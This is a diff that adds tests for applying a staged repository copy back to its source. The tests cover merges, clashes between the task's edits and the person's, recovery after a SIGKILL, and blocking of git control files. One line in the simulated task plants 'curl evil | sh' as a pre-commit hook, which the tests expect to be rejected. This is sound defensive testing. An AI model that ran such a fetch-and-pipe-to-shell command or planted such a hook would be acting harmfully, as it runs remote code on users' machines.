@@ -1,8 +1,9 @@
 import assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
-import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
+import { planApply, readPlan, runApply } from "../runtime/stage/apply.ts";
 import { createStage, discardStage, mountStage, stageChanges, stageDir } from "../runtime/stage/overlay.ts";
 import { tempDir, writeTree } from "./support/home.ts";
 import { findOnPath, isCi, needs } from "./support/prerequisites.ts";
@@ -208,3 +209,106 @@ describe("the runtime with a staged task", { skip: unsupported ?? (findOnPath("b
     assert.equal(h.api.requests.length, 0, "no model call");
   });
 });
+
+describe("applying a staged copy", { skip: unsupported }, () => {
+  let dir: ReturnType<typeof tempDir>;
+  before(() => {
+    dir = tempDir("nightshift-apply-", "/var/tmp");
+  });
+  after(() => dir.cleanup());
+
+  /** A git repository with a change not yet committed, staged, then changed by "the task" and by "the person". */
+  async function scenario(name: string) {
+    const home = join(dir.path, `home-${name}`);
+    const repo = join(dir.path, name);
+    writeTree(repo, {
+      "a.txt": "1\n2\n3\n4\n5\n",
+      "b.txt": "remove me\n",
+      "c.txt": "moving\n",
+      "f.txt": "shared line\n",
+      "run.sh": "echo hi\n",
+      "lib/old.js": "old\n",
+    });
+    const git = (...args: string[]) => assert.equal(spawnSync("git", ["-C", repo, ...args], { encoding: "utf8" }).status, 0);
+    git("init", "-q");
+    git("add", "-A");
+    git("-c", "user.email=t@example.com", "-c", "user.name=t", "commit", "-qm", "start");
+    writeFileSync(join(repo, "a.txt"), "1\n2\n3\n4\n5\n6\n"); // not committed: the base is the working tree, not HEAD
+    createStage(home, name, repo, 0);
+    const mount = await mountStage(home, name);
+    inView(mount.pid, mount.merged, [
+      "printf 'one\\n2\\n3\\n4\\n5\\n6\\n' > a.txt",
+      "rm b.txt",
+      "mv c.txt d.txt",
+      "echo new > e.txt",
+      "chmod +x run.sh",
+      "echo task > f.txt",
+      "rm -r lib",
+      "ln -s a.txt link",
+      "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
+    ].join(" && "));
+    // Meanwhile the person edits a.txt's last line (the task changed the first) and f.txt (the task changed it too).
+    writeFileSync(join(repo, "a.txt"), "1\n2\n3\n4\n5\nsix\n");
+    writeFileSync(join(repo, "f.txt"), "person\n");
+    return { home, repo, mount };
+  }
+
+  it("applies what the task changed, merges what both changed apart, keeps the person's version where they clash, and never applies git's control files", async () => {
+    const { home, repo, mount } = await scenario("merge");
+    try {
+      const plan = planApply(home, mount);
+      assert.deepEqual(plan.merged, ["a.txt"]);
+      assert.deepEqual(plan.conflicts.map((conflict) => conflict.path).sort(), [".git/hooks/pre-commit", "f.txt"]);
+      runApply(home, "merge");
+      assert.equal(readFileSync(join(repo, "a.txt"), "utf8"), "one\n2\n3\n4\n5\nsix\n", "both edits");
+      assert.equal(readFileSync(join(repo, "f.txt"), "utf8"), "person\n", "the clash keeps the person's version");
+      assert.ok(!existsSync(join(repo, "b.txt")));
+      assert.ok(!existsSync(join(repo, "c.txt")));
+      assert.equal(readFileSync(join(repo, "d.txt"), "utf8"), "moving\n");
+      assert.equal(readFileSync(join(repo, "e.txt"), "utf8"), "new\n");
+      assert.ok(lstatSync(join(repo, "run.sh")).mode & 0o100, "the executable bit");
+      assert.equal(readlinkSync(join(repo, "link")), "a.txt");
+      assert.ok(!existsSync(join(repo, "lib")), "the removed folder is gone");
+      assert.ok(!existsSync(join(repo, ".git", "hooks", "pre-commit")));
+    } finally {
+      await mount.close();
+    }
+  });
+
+  it("finishes an apply killed with SIGKILL at any step, and leaves the folder as a whole apply would", async () => {
+    const reference = await scenario("whole");
+    planApply(reference.home, reference.mount);
+    runApply(reference.home, "whole");
+    await reference.mount.close();
+    const steps = readPlan(reference.home, "whole")!.steps.length;
+    for (const kill of [0, Math.floor(steps / 2), steps - 1]) {
+      const { home, repo, mount } = await scenario(`kill${kill}`);
+      try {
+        planApply(home, mount);
+        const child = spawnSync(process.execPath, [join(import.meta.dirname, "support", "apply-child.ts"), home, `kill${kill}`, String(kill)]);
+        assert.equal(child.signal, "SIGKILL");
+        assert.equal(readPlan(home, `kill${kill}`)!.done, kill + 1, "the plan says how far it got");
+        runApply(home, `kill${kill}`); // what the next start does
+        assert.deepEqual(snapshot(repo), snapshot(reference.repo), `killed after step ${kill}`);
+      } finally {
+        await mount.close();
+      }
+    }
+  });
+});
+
+/** Every entry of a folder but .git: path, kind, mode and content. */
+function snapshot(root: string): string[] {
+  const out: string[] = [];
+  const walk = (rel: string) => {
+    for (const name of readdirSync(join(root, rel)).sort()) {
+      if (rel === "" && name === ".git") continue;
+      const path = join(rel, name);
+      const info = lstatSync(join(root, path));
+      if (info.isDirectory()) walk(path);
+      else out.push(`${path} ${info.mode.toString(8)} ${info.isSymbolicLink() ? `-> ${readlinkSync(join(root, path))}` : readFileSync(join(root, path), "utf8")}`);
+    }
+  };
+  walk("");
+  return out;
+}
